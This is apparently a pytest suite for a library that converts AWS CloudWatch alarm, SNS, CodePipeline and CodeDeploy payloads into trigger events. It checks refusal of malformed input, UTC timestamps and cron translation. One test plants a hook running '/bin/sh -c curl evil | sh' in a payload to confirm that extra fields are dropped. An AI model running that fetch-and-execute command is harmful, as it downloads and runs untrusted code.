"""AWS's own documented payloads (tests/aws/payloads, sources in SOURCES.md) convert to the
golden trigger events beside them, and anything else is refused with a clear reason, never
with an exception of another kind."""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from datetime import UTC
from pathlib import Path
from typing import Any

import pytest

from quiesce.triggers.convert import UnsupportedEvent
from quiesce_aws.triggers import convert, to_eventbridge

PAYLOADS = Path(__file__).resolve().parent / "payloads"
FIXTURES = sorted(p.name for p in PAYLOADS.glob("*.json"))


def load(name: str) -> Any:
    return json.loads((PAYLOADS / name).read_text())


def attributes(name: str) -> dict[str, str]:
    (event,) = convert(load(name))
    return event.attributes


@pytest.mark.parametrize("name", FIXTURES)
def test_each_real_event_converts_to_its_golden_trigger_event(name: str) -> None:
    converted = [e.model_dump(mode="json") for e in convert(load(name))]
    assert converted == load(f"expected/{name}")


def test_every_fixture_has_its_source_recorded() -> None:
    sources = (PAYLOADS / "SOURCES.md").read_text()
    assert [name for name in FIXTURES if f"`{name}`" not in sources] == []


def test_a_schedule_names_its_trigger_by_the_schedule_name() -> None:
    (event,) = convert(load("eventbridge_scheduler.json"))
    assert (event.kind, event.trigger) == ("schedule", "aaaaa")


# ------------------------------------------------------------------ alarms: condition, suppressed


@pytest.mark.parametrize(
    ("name", "state", "condition"),
    [
        ("cloudwatch_alarm_state_change.json", "ALARM", "firing"),
        ("cloudwatch_alarm_state_change_ok.json", "OK", "resolved"),
        ("cloudwatch_alarm_action.json", "ALARM", "firing"),
        ("cloudwatch_alarm_action_ok.json", "OK", "resolved"),
        ("cloudwatch_alarm_sns.json", "ALARM", "firing"),
        ("cloudwatch_alarm_sns_ok.json", "OK", "resolved"),
    ],
)
def test_every_alarm_shape_says_whether_the_alarm_fires_or_recovered(
    name: str, state: str, condition: str
) -> None:
    """The alarm's own state stays as CloudWatch says it; `condition` is the core's word."""
    found = attributes(name)
    assert (found["state"], found["condition"]) == (state, condition)


def insufficient_data(name: str) -> Any:
    """The documented payload with the alarm's new state set to INSUFFICIENT_DATA."""
    payload = load(name)
    if "detail" in payload:
        payload["detail"]["state"]["value"] = "INSUFFICIENT_DATA"
    elif "alarmData" in payload:
        payload["alarmData"]["state"]["value"] = "INSUFFICIENT_DATA"
    else:
        sns = payload["Records"][0]["Sns"]
        message = json.loads(sns["Message"])
        message["NewStateValue"] = "INSUFFICIENT_DATA"
        sns["Message"] = json.dumps(message)
    return payload


@pytest.mark.parametrize(
    "name",
    [
        "cloudwatch_alarm_state_change.json",
        "cloudwatch_alarm_action.json",
        "cloudwatch_alarm_sns.json",
    ],
)
def test_an_alarm_without_enough_data_is_neither_firing_nor_resolved(name: str) -> None:
    (event,) = convert(insufficient_data(name))
    assert (event.attributes["state"], event.attributes["condition"]) == (
        "INSUFFICIENT_DATA",
        "other",
    )


def test_a_composite_alarm_whose_actions_are_suppressed_says_so() -> None:
    found = attributes("cloudwatch_composite_alarm_suppressed.json")
    assert (found["condition"], found["suppressed"]) == ("firing", "true")


@pytest.mark.parametrize("value", [None, ""])
def test_an_empty_suppression_is_no_suppression(value: str | None) -> None:
    payload = load("cloudwatch_composite_alarm_suppressed.json")
    payload["detail"]["state"]["actionsSuppressedBy"] = value
    (event,) = convert(payload)
    assert "suppressed" not in event.attributes


def test_an_alarm_action_that_runs_after_a_suppressed_state_is_not_suppressed() -> None:
    """AWS's composite alarm action sample: `previousState.actionsSuppressedBy` is about the
    actions held back before; this invocation is the action that runs."""
    found = attributes("cloudwatch_alarm_action_composite.json")
    assert found["condition"] == "firing"
    assert "suppressed" not in found


def test_an_alarm_action_whose_new_state_is_suppressed_says_so() -> None:
    payload = load("cloudwatch_alarm_action_composite.json")
    payload["alarmData"]["state"]["actionsSuppressedBy"] = "Alarm"
    (event,) = convert(payload)
    assert event.attributes["suppressed"] == "true"


# ------------------------------------------------------------------ CodePipeline: pipeline, stage


@pytest.mark.parametrize(
    ("name", "stage", "action"),
    [
        ("codepipeline_pipeline_started.json", None, None),
        ("codepipeline_stage_started.json", "Prod", None),
        ("codepipeline_action_started.json", "Prod", "myAction"),
    ],
)
def test_only_stage_and_action_events_name_a_stage(
    name: str, stage: str | None, action: str | None
) -> None:
    found = attributes(name)
    assert (found.get("stage"), found.get("action")) == (stage, action)
    assert (found["pipeline"], found["state"]) == ("myPipeline", "STARTED")


# ------------------------------------------------------------------ malformed input


def test_extra_fields_in_a_payload_never_reach_the_trigger_event() -> None:
    payload = load("codedeploy_deployment_success.json")
    payload["detail"]["hooks"] = {"pre": {"run": ["/bin/sh", "-c", "curl evil | sh"]}}
    payload["detail"]["application"] = "myApplication"
    (event,) = convert(payload)
    assert "hooks" not in json.dumps(event.model_dump(mode="json"))


@pytest.mark.parametrize(
    ("mutate", "message"),
    [
        (lambda e: e.update({"source": "aws.ec2"}), "no converter for source 'aws.ec2'"),
        (lambda e: e.pop("detail"), "lacks detail"),
        (lambda e: e.update({"time": "yesterday"}), "not a timestamp"),
    ],
)
def test_an_unsupported_or_malformed_event_is_refused_with_the_reason(
    mutate: Any, message: str
) -> None:
    payload = copy.deepcopy(load("codedeploy_deployment_success.json"))
    mutate(payload)
    with pytest.raises(UnsupportedEvent, match=message):
        convert(payload)


@pytest.mark.parametrize(
    "name",
    ["codedeploy_deployment_success.json", "codepipeline_stage_started.json"],
)
def test_an_event_whose_detail_is_a_string_but_not_json_is_refused(name: str) -> None:
    payload = load(name)
    payload["detail"] = "{'state': 'START'"
    with pytest.raises(UnsupportedEvent, match="the event's detail is a string that is not JSON"):
        convert(payload)


@pytest.mark.parametrize("field", ["MessageId", "Message"])
def test_an_sns_record_without_its_message_or_id_is_refused(field: str) -> None:
    payload = load("cloudwatch_alarm_sns.json")
    del payload["Records"][0]["Sns"][field]
    with pytest.raises(UnsupportedEvent, match=f"SNS record 1 lacks {field}$"):
        convert(payload)


@pytest.mark.parametrize(
    ("records", "message"),
    [
        (["not a record"], "SNS record 1 is not an object"),
        (
            [{"EventSource": "aws:sns", "Sns": "x"}],
            "the Sns field of SNS record 1 is not an object",
        ),
        ([{"EventSource": "aws:sqs"}], "not an SNS record: 'aws:sqs'"),
    ],
)
def test_a_malformed_sns_record_is_refused_with_the_reason(records: Any, message: str) -> None:
    with pytest.raises(UnsupportedEvent, match=message):
        convert({"Records": records})


def test_an_sns_message_that_is_not_an_alarm_is_refused() -> None:
    payload = load("cloudwatch_alarm_sns.json")
    payload["Records"][0]["Sns"]["Message"] = "hello"
    with pytest.raises(UnsupportedEvent, match="not a CloudWatch alarm"):
        convert(payload)


def _paths(node: Any, prefix: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if prefix:
        yield prefix
    children = (
        node.items()
        if isinstance(node, dict)
        else enumerate(node)
        if isinstance(node, list)
        else ()
    )
    for key, child in children:
        yield from _paths(child, (*prefix, key))


#: What a field of a malformed payload may hold instead: missing, null, empty, another type,
#: a string that is not JSON, a number no timestamp can be.
_DELETED = object()
ODD_VALUES = [_DELETED, None, "", "x", "{not json", 1e20, -1, True, [], {}, [1], "null"]


@pytest.mark.parametrize("name", FIXTURES)
def test_any_field_of_a_documented_payload_gone_wrong_is_converted_or_refused(name: str) -> None:
    """Every field of every documented payload, removed or replaced by an odd value: the
    converter answers with trigger events or UnsupportedEvent, never another exception (which
    Lambda would retry and then dead-letter)."""
    base = load(name)
    for path in list(_paths(base)):
        for value in ODD_VALUES:
            payload = copy.deepcopy(base)
            node = payload
            for key in path[:-1]:
                node = node[key]
            if value is _DELETED:
                del node[path[-1]]
            else:
                node[path[-1]] = value
            try:
                convert(payload)
            except UnsupportedEvent:
                pass
            except Exception as exc:  # pragma: no cover - the failure this test looks for
                pytest.fail(f"{name}: {path} = {value!r} raised {exc!r}")


def test_a_payload_that_is_not_an_object_is_refused() -> None:
    with pytest.raises(UnsupportedEvent, match="not a JSON object"):
        convert(["run", "/bin/sh"])


@pytest.mark.parametrize(
    ("name", "path", "stamp"),
    [
        ("codedeploy_deployment_success.json", ("time",), "2026-11-29T09:12:31"),
        (
            "cloudwatch_alarm_action.json",
            ("alarmData", "state", "timestamp"),
            "2026-11-29T09:58:31",
        ),
        ("codepipeline_pipeline_started.json", ("time",), "2026-11-29T11:10:07+02:00"),
    ],
)
def test_every_converted_time_is_timezone_aware_utc(
    name: str, path: tuple[str, ...], stamp: str
) -> None:
    """A timestamp without an offset is read as UTC, and one with an offset is given in UTC
    (the converters once returned naive datetimes, which compare with nothing aware)."""
    payload = load(name)
    node = payload
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = stamp
    (event,) = convert(payload)
    assert event.time.tzinfo is UTC
    assert event.time.isoformat().startswith("2026-11-29T09:")


@pytest.mark.parametrize(
    ("cron", "aws"),
    [
        ("0 4 * * *", "cron(0 4 * * ? *)"),
        ("0 4 * * 1-5", "cron(0 4 ? * 2-6 *)"),
        ("0 4 * * MON-FRI", "cron(0 4 ? * MON-FRI *)"),
        ("0 4 * * 0", "cron(0 4 ? * 1 *)"),
        ("30 2 1 * *", "cron(30 2 1 * ? *)"),
    ],
)
def test_cron_is_converted_for_eventbridge_scheduler(cron: str, aws: str) -> None:
    assert to_eventbridge(cron) == aws
